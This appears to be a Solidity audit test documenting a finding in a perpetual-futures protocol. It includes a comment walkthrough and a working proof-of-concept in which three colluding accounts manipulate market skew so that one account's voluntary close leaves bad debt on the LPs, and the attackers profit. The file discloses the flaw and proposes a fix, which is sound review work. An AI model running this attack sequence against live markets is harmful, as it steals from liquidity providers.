// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IMarketConfig} from "../../../contracts/interfaces/IMarketConfig.sol";
import {MarketParams} from "../../../contracts/interfaces/PerpTypes.sol";
import {MockOracleAdapter} from "../../../contracts/mocks/MockOracleAdapter.sol";
import {ReviewFixture} from "./ReviewFixture.sol";
import {vm} from "../utils/Vm.sol";

/// @notice FINDING (medium, parameter bound): at parameters the validator accepts, an attacker's own VOLUNTARY close into
///         a skew its other accounts pushed realises a loss beyond the account's collateral; the bad debt goes to the
///         fund / ADL / LPs and the pushing accounts collect it (the thin-market self-liquidation, by a close instead
///         of a liquidation).
/// @dev What is wrong: the liquidation-impact bound min(2M, ⌈maxOI / 2K⌉) ≤ lowest mmr only covers a close's OWN
///      impact, which is all a forced close can suffer now that it is bounded from the fair premium. A voluntary close
///      is not bounded (by design: exits always pass), and a pure reduction is not margin-checked unless it leaves the
///      account flat, so an account that keeps any other position can close into a skew pushed to −maxOI by a hedged
///      book (own reductions skip every cap) and go negative. The credit valuation at opening charges the account its
///      own impact and IM at fair, so the loss beyond collateral per unit is (maxOI − q/2) / K − 1/maxLeverage: positive
///      whenever maxOI / K > 1/maxLeverage, which the validator allows as soon as mmr > 1 / (2 · maxLeverage) (mmr may
///      go up to 1/maxLeverage). The local ETH/BTC markets sit exactly at maxOI / K = 1/maxLeverage (no bad debt).
///
///      Numbers: market at 1,000, skewScale 10,000, maxPremium 10 %, maxOI = maxSkew = 998 (⌈998 / 20,000⌉ = 4.99 %),
///      one tier 20x / mmr 4.99 %, no fees (fees change little: about 2 USD per 1,000 units traded at 5 bp), τ 0;
///      empty insurance fund, 10,000,000 in the liquidity vault. One block:
///      1. A buys 498 from skew 0 at 1,024.9 (average premium 2.49 %); credited at fair (1,000): needs IM 24,900 +
///         12,400.2 = 37,300.2 → deposits 37,301. A also holds 0.001 of another market (so its close is not refused).
///      2. C sells 998 (skew −500, 4 %/h ≤ the band), at 999.9. 3. B buys 500 from −500 at 975 (skew 0, OI long 998).
///      4. B closes 500 at 975 (skew −500, no cap checked). 5. A closes 498 from −500 to −998 at 925.1: realised
///         498 × (925.1 − 1,024.9) = −49,700.4 against 37,301: collateral −12,399.4.
///      6. C closes at 950.1: +49,700.4. Liquidating A (bankrupt) queues 12,399.4 of shortfall: the LPs' net value
///         falls by 12,399.4; the attacker (A, B, C) withdraws 12,399.4 more than it deposited.
///
///      Fix (root cause): make the bound cover the swing a voluntary close can meet, e.g. require min(M, maxOI / K) ≤
///      1 / maxLeverage of every tier (the local markets meet it with equality), or refuse a voluntary reduction that
///      would realise more loss than the account's equity at fair (only when the account keeps other positions; a
///      close that leaves it flat is already handled by liquidation).
contract VoluntaryCloseBadDebtTest is ReviewFixture {
    MockOracleAdapter internal pOracle;
    MockOracleAdapter internal zOracle;
    uint256 internal mkt;
    uint256 internal z;

    function setUp() public override {
        super.setUp();
        pOracle = new MockOracleAdapter(1_000e18);
        zOracle = new MockOracleAdapter(1_000e18);
        MarketParams memory p = exactParams(pOracle);
        p.maxPremium = 0.1e18;
        p.skewScale = 10_000e18;
        p.maxOpenInterest = 998e18;
        p.maxSkew = 998e18;
        mkt = engine.listMarket("THIN", p, oneTier(10_000_000e18, 20e18, 0.0499e18));
        z = engine.listMarket("Z", exactParams(zOracle), oneTier(10_000_000e18, 20e18, 0.025e18));
        _lpDeposit(PROVIDER, 10_000_000e6);
        _fund(MALLORY, 37_301e6); // A
        _fund(MALLORY2, 30_000e6); // B
        _fund(MALLORY3, 60_000e6); // C
    }

    /// @dev The validator's bound is met with equality: one more unit of maxOI is refused.
    function test_parametersAreAtTheValidatorsBound() public {
        MarketParams memory p = exactParams(pOracle);
        p.maxPremium = 0.1e18;
        p.skewScale = 10_000e18;
        p.maxOpenInterest = 998e18 + 1;
        p.maxSkew = 998e18;
        vm.expectRevert(
            abi.encodeWithSelector(IMarketConfig.LiquidationImpactAboveMaintenance.selector, 0.0499e18 + 1, 0.0499e18)
        );
        engine.setMarketParams(mkt, p);
    }

    function test_voluntaryCloseIntoPushedSkew_leavesBadDebtToLps() public {
        int256 lpBefore = lpVault.netValueUsd();
        _trade(MALLORY, z, 0.001e18);
        assertEq(_trade(MALLORY, mkt, 498e18), 1_024.9e18, "A's fill: 1,000 x (1 + 498 / 20,000)");
        assertEq(_trade(MALLORY3, mkt, -998e18), 999.9e18, "C: average premium (498 - 500) / 20,000");
        assertEq(_trade(MALLORY2, mkt, 500e18), 975e18, "B: average premium -500 / 20,000");
        assertEq(_close(MALLORY2, mkt), 975e18, "B closes: skew 0 -> -500");
        assertEq(_close(MALLORY, mkt), 925.1e18, "A closes: skew -500 -> -998, average premium -7.49 %");
        assertEq(vault.collateralOf(MALLORY), 37_301e18 - 49_700.4e18, "A: 37,301 - 498 x 99.8");
        assertEq(_close(MALLORY3, mkt), 950.1e18, "C closes: average premium -4.99 %");
        assertEq(vault.collateralOf(MALLORY3), 60_000e18 + 49_700.4e18, "C: 998 x (999.9 - 950.1)");
        assertEq(vault.collateralOf(MALLORY2), 30_000e18, "B: 0");

        vm.prank(KEEPER);
        liquidator.liquidate(MALLORY);
        assertEq(liquidator.totalShortfall(), 12_399.4e18, "A's debt, not covered by the empty fund");
        assertEq(lpVault.netValueUsd(), lpBefore - 12_399.4e18, "borne by the LPs");

        uint256 out;
        vm.prank(MALLORY2);
        vault.withdraw(30_000e6, MALLORY2);
        out += 30_000e6;
        vm.prank(MALLORY3);
        vault.withdraw(109_700.4e6, MALLORY3);
        out += 109_700.4e6;
        assertEq(out, 37_301e6 + 30_000e6 + 60_000e6 + 12_399.4e6, "attacker: deposits + 12,399.4");
    }
}
